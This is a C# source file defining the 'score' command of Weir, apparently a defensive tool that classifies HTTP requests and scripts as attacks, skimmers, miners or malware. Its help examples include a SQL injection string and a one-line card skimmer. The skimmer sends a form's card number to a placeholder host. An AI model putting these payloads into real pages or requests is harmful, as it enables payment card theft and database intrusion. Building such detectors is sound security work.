using System.CommandLine;
using Weir.Cli.Files;
using Weir.Cli.Scoring;
using Weir.Cli.Shell;
using Weir.Http;
using Weir.Http.Rows;
using Weir.Scripts;

namespace Weir.Cli.Verbs;

/// <summary><c>weir score http</c> and <c>weir score script</c>: JSON Lines in, one verdict a line out, in the same order.</summary>
internal static class ScoreVerb
{
    public static Command Create() => new("score", "Score rows of a file or a pipe")
    {
        Create(
            new Verb("http", "Score HTTP requests or bare values: attack or not, of which class, and why")
            {
                Examples =
                [
                    "weir score http --input requests.jsonl --output verdicts.jsonl",
                    """echo '{"kind":"payload","payload":"1 or 1=1--"}' | weir score http""",
                ],
            },
            "http",
            (model, evidence) =>
            {
                HttpScorer scorer = HttpScorer.Load(model);
                return () => new HttpRows(scorer, evidence);
            }),
        Create(
            new Verb("script", "Score scripts or pages: skimmer, miner, malware or not, and why; no script is ever run")
            {
                Examples =
                [
                    "weir score script checkout.js saved-page.html",
                    "weir score script --input scripts.jsonl --output verdicts.jsonl",
                    """echo '{"code":"new Image().src=\"//cdn.example/?\"+btoa(document.forms[0].cc_number.value)"}' | weir score script""",
                ],
            },
            "script",
            (model, evidence) =>
            {
                ScriptClassifier classifier = ScriptClassifier.Load(model);
                return () => new ScriptRows(classifier, evidence);
            },
            ScoreScripts),
    };

    /// <param name="verb">Name, description and examples.</param>
    /// <param name="task">First part of a model's file name.</param>
    /// <param name="load">Loads a model and gives what makes scorers.</param>
    /// <param name="ofFiles">Scores files that are no rows, each as a whole; null where there are none such.</param>
    private static Verb Create(Verb verb, string task, Func<string, EvidenceMode, Func<IRowScorer>> load, Func<Wanted, TextWriter, int>? ofFiles = null)
    {
        var files = new Argument<string[]>("FILE") { Description = "Scripts or pages, each judged as a whole, with the verdict in plain text instead of JSON", Arity = ArgumentArity.ZeroOrMore };
        files.Validators.Add(UsageError.RefuseOptions);
        if (ofFiles is not null) verb.Add(files);
        var input = new Option<string>("--input", "-i") { Description = "JSON Lines, plain or gzip; - is standard input", HelpName = "FILE|-", DefaultValueFactory = _ => InputFile.StandardInput };
        var output = new Option<string>("--output", "-o") { Description = "Where the verdicts go; - is standard output", HelpName = "FILE|-", DefaultValueFactory = _ => OutputFile.StandardOutput };
        var model = new Option<string?>("--model", "-m") { Description = "Model file; without it the newest that ships with the program", HelpName = "FILE" };
        var evidence = Choice.Of<EvidenceMode>("--evidence", "Write the reasons for rows of severity Low and above (auto), for all rows or for none", EvidenceMode.Auto);
        verb.Add(input);
        verb.Add(output);
        verb.Add(model);
        verb.Add(evidence);
        verb.SetAction(async (parsed, cancellation) =>
        {
            string from = parsed.GetValue(input)!;
            EvidenceMode mode = Choice.Read<EvidenceMode>(parsed, evidence)!.Value;
            if (ofFiles is not null && parsed.GetValue(files) is { Length: > 0 } named)
            {
                if (parsed.GetResult(input) is { Implicit: false }) throw new UsageException($"--input has rows, and {named[0]} is judged as a whole; name one of them");
                return ofFiles(new Wanted(named, parsed.GetValue(output)!, ModelFiles.Resolve(parsed.GetValue(model), task), mode), parsed.InvocationConfiguration.Error);
            }

            if (from == InputFile.StandardInput && parsed.GetResult(input) is { Implicit: true } && !Console.IsInputRedirected)
            {
                throw new UsageException("nothing to read: name a file with --input, or pipe rows in");
            }

            return await RunAsync(from, parsed.GetValue(output)!, ModelFiles.Resolve(parsed.GetValue(model), task), path => load(path, mode), parsed.InvocationConfiguration.Error, cancellation).ConfigureAwait(false);
        });
        return verb;
    }

    private static int ScoreScripts(Wanted wanted, TextWriter error)
    {
        OutputFile.MustNotReplace(wanted.Output, [.. wanted.Files, wanted.Model]);
        ScriptClassifier classifier = ScriptClassifier.Load(wanted.Model);
        using OutputFile output = OutputFile.Create(wanted.Output);
        int failed = ScriptFiles.Write(wanted.Files, classifier, wanted.Evidence, output.Stream, error);
        output.Commit();
        return failed > 0 ? ExitCode.Failure : ExitCode.Ok;
    }

    private static async Task<int> RunAsync(string from, string to, string modelFile, Func<string, Func<IRowScorer>> load, TextWriter error, CancellationToken cancellation)
    {
        // What runs before the first await runs before Ctrl-C is watched.
        await Task.Yield();
        OutputFile.MustNotReplace(to, from, modelFile);
        Func<IRowScorer> scorer = load(modelFile);
        using InputFile input = InputFile.Open(from);
        using OutputFile output = OutputFile.Create(to);
        var pipeline = new ScorePipeline(scorer, Environment.ProcessorCount);
        ScoreTotals totals;
        try
        {
            totals = await ScoreProgress.WatchAsync(pipeline, input, pipeline.RunAsync(input.Stream, output.Stream, cancellation)).ConfigureAwait(false);
        }
        catch (InvalidDataException e)
        {
            throw new InvalidDataException($"{input.Name}: broken gzip data ({e.Message})", e);
        }

        output.Commit();
        if (totals.BadLines == 0)
        {
            return ExitCode.Ok;
        }

        error.WriteLine($"weir: {totals.BadLines} of {totals.Rows + totals.BadLines} lines held no row; each has an \"error\" line in the output");
        return ExitCode.BadLines;
    }

    private sealed record Wanted(string[] Files, string Output, string Model, EvidenceMode Evidence);
}
